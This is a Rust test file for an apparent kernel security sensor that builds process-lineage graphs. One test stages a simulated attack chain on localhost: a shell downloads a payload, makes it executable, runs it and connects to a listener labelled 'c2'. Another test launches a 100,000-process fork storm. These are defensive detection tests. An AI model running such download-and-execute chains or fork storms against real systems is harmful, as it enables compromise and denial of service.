//! The entity graph against the real kernel: a scripted attack chain gives exactly the expected
//! lineage, files written and connections; 100,000 short-lived processes stay under the caps.
#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    reason = "a test or benchmark stops loudly at the first thing that fails"
)]

use std::{
    collections::BTreeSet,
    io::{BufRead, BufReader, Write},
    net::TcpListener,
    process::{Command, Stdio},
    time::Duration,
};

use serde_json::Value;
use vigil_tests::{Sensor, kernel_tests_enabled, s, sensor_cmd, u};

fn graph(sensor: &Sensor, args: &[&str]) -> Value {
    let state = sensor.state();
    let mut full = vec!["graph", "--state", state.to_str().expect("utf-8")];
    full.extend_from_slice(args);
    let out = sensor_cmd(&full);
    assert!(
        out.status.success(),
        "graph {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("graph answers JSON")
}

/// The addresses of a tree's internet connections.
fn inet_connections(tree: &Value) -> BTreeSet<String> {
    tree["connections"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|c| c["Inet"]["addr"].as_str().map(str::to_owned))
        .collect()
}

/// Serves `body` to one HTTP GET, from a thread.
fn http_once(body: String) -> std::net::SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let addr = listener.local_addr().expect("addr");
    std::thread::spawn(move || {
        if let Ok((mut conn, _)) = listener.accept() {
            let mut reader = BufReader::new(conn.try_clone().expect("clone"));
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                line.clear();
            }
            let _ = write!(
                conn,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
        }
    });
    addr
}

#[test]
fn an_attack_chain_is_one_tree_with_its_files_and_connections() {
    if !kernel_tests_enabled("an_attack_chain_is_one_tree_with_its_files_and_connections") {
        return;
    }
    let mut sensor = Sensor::start().expect("sensor starts");
    let dir = tempfile::tempdir().expect("tempdir");
    let payload = dir.path().join("payload");
    let c2 = TcpListener::bind("127.0.0.1:0").expect("c2 listener");
    let c2_addr = c2.local_addr().expect("addr");
    std::thread::spawn(move || {
        let _ = c2.accept();
    });
    let web = http_once(format!(
        "#!/bin/sh\nexec python3 -c \"import socket; socket.create_connection(('127.0.0.1', {})).close()\"\n",
        c2_addr.port()
    ));
    let script = format!(
        "python3 -c \"import urllib.request; open('{p}', 'wb').write(urllib.request.urlopen('http://{web}/x').read())\" \
         && chmod +x {p} && {p}; read line",
        p = payload.display()
    );
    let mut root = Command::new("/bin/sh")
        .args(["-c", &script])
        .stdin(Stdio::piped())
        .spawn()
        .expect("spawn the chain");
    let root_pid = root.id() as u64;
    let payload_s = payload.to_str().expect("utf-8").to_owned();
    // Wait until the payload's connection has been seen.
    let c2_s = c2_addr.to_string();
    sensor
        .wait_event("the payload's connect", |e| {
            s(e, "kind") == "connect" && e["net"]["remote"] == c2_s.as_str()
        })
        .expect("connect");
    std::thread::sleep(Duration::from_millis(200));

    let tree = graph(&sensor, &["tree", &root_pid.to_string()]);
    let pids = |v: &Value| -> BTreeSet<u64> {
        v.as_array()
            .into_iter()
            .flatten()
            .filter_map(|k| k["pid"].as_u64())
            .collect()
    };
    // The shell ran exactly three commands (the downloader, chmod, the payload); with what they
    // ran in turn (python3 may be a wrapper script that forks helpers), the tree's descendants
    // are the closure of the fork events from the root.
    let forks_of = |parent: u64| -> BTreeSet<u64> {
        sensor
            .events
            .iter()
            .filter(|e| s(e, "kind") == "fork" && e["parent"]["pid"] == parent)
            .map(|e| u(e, "pid"))
            .collect()
    };
    let forks = forks_of(root_pid);
    assert_eq!(forks.len(), 3, "the shell forked three commands: {forks:?}");
    let mut closure = BTreeSet::new();
    let mut frontier: Vec<u64> = forks.iter().copied().collect();
    while let Some(p) = frontier.pop() {
        if closure.insert(p) {
            frontier.extend(forks_of(p));
        }
    }
    assert_eq!(pids(&tree["descendants"]), closure);
    assert_eq!(
        tree["ancestors"][0]["pid"],
        std::process::id(),
        "the chain's parent is this test"
    );
    assert_eq!(tree["files_written"], serde_json::json!([payload_s]));
    let conns = inet_connections(&tree);
    assert_eq!(conns, BTreeSet::from([web.to_string(), c2_s.clone()]));

    let executors = graph(&sensor, &["executors", &payload_s]);
    let exec_pids = pids(&executors["processes"]);
    assert_eq!(exec_pids.len(), 1);
    assert!(forks.is_superset(&exec_pids));
    let writer = graph(&sensor, &["first-writer", &payload_s]);
    let writer_pid = writer["processes"][0]["pid"]
        .as_u64()
        .expect("a first writer");
    assert!(
        closure.contains(&writer_pid) && !exec_pids.contains(&writer_pid),
        "the downloader wrote it"
    );

    // A snapshot can be taken and names the chain.
    let snap = graph(&sensor, &["snapshot"]);
    assert!(snap["edges"].as_u64().unwrap_or(0) > 0);
    let bytes = std::fs::read(snap["path"].as_str().expect("path")).expect("snapshot file");
    assert!(
        bytes
            .windows(payload_s.len())
            .any(|w| w == payload_s.as_bytes())
    );

    drop(root.stdin.take());
    let _ = root.wait();
}

#[test]
fn a_hundred_thousand_short_lived_processes_stay_under_the_caps() {
    if !kernel_tests_enabled("a_hundred_thousand_short_lived_processes_stay_under_the_caps") {
        return;
    }
    let sensor = Sensor::start_with(&[
        "--max-exited",
        "2000",
        "--retention-secs",
        "2",
        "--max-edges",
        "20000",
    ])
    .expect("sensor starts");
    let st = Command::new("python3")
        .args([
            "-c",
            "import os\nfor i in range(100000):\n    pid = os.fork()\n    if pid == 0:\n        os._exit(0)\n    os.waitpid(pid, 0)\n",
        ])
        .status()
        .expect("fork storm");
    assert!(st.success());
    std::thread::sleep(Duration::from_millis(1000));
    let status = sensor.status().expect("status");
    let p = &status["processes"];
    let g = &status["graph"];
    let forks = status["events"]["fork"]["received"].as_u64().unwrap_or(0);
    let dropped = status["events"]["fork"]["dropped"].as_u64().unwrap_or(0);
    assert!(forks + dropped >= 100_000, "the storm was seen: {status}");
    assert!(
        p["exited"].as_u64().unwrap_or(u64::MAX) <= 2000,
        "exited processes over the cap: {status}"
    );
    assert!(
        p["aged_out"].as_u64().unwrap_or(0) >= 95_000,
        "processes aged out: {status}"
    );
    assert!(
        g["edges"].as_u64().unwrap_or(u64::MAX) <= 20_000,
        "edges over the cap: {status}"
    );
    assert!(
        p["live"].as_u64().unwrap_or(u64::MAX) < 5_000,
        "live processes leak: {status}"
    );
}

#[test]
fn sockets_opened_before_the_sensor_are_in_the_graph() {
    if !kernel_tests_enabled("sockets_opened_before_the_sensor_are_in_the_graph") {
        return;
    }
    let mut old = Command::new("python3")
        .args([
            "-c",
            "import socket, sys, time\n\
             l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen(1)\n\
             c = socket.create_connection(l.getsockname()); a, _ = l.accept()\n\
             print(l.getsockname()[1], c.getsockname()[1], flush=True)\n\
             sys.stdin.read()",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("python");
    let mut line = String::new();
    BufReader::new(old.stdout.take().expect("stdout"))
        .read_line(&mut line)
        .expect("ports");
    let ports: Vec<u16> = line
        .split_whitespace()
        .filter_map(|p| p.parse().ok())
        .collect();
    // python3 may be a wrapper that execs the interpreter: the same process either way.
    let sensor = Sensor::start().expect("sensor starts");
    let tree = graph(&sensor, &["tree", &old.id().to_string()]);
    let conns = inet_connections(&tree);
    let expected = BTreeSet::from([
        format!("127.0.0.1:{}", ports[0]),
        format!("127.0.0.1:{}", ports[1]),
    ]);
    assert_eq!(
        conns, expected,
        "the connection it made and the one it accepted: {tree}"
    );
    drop(old.stdin.take());
    let _ = old.wait();
}
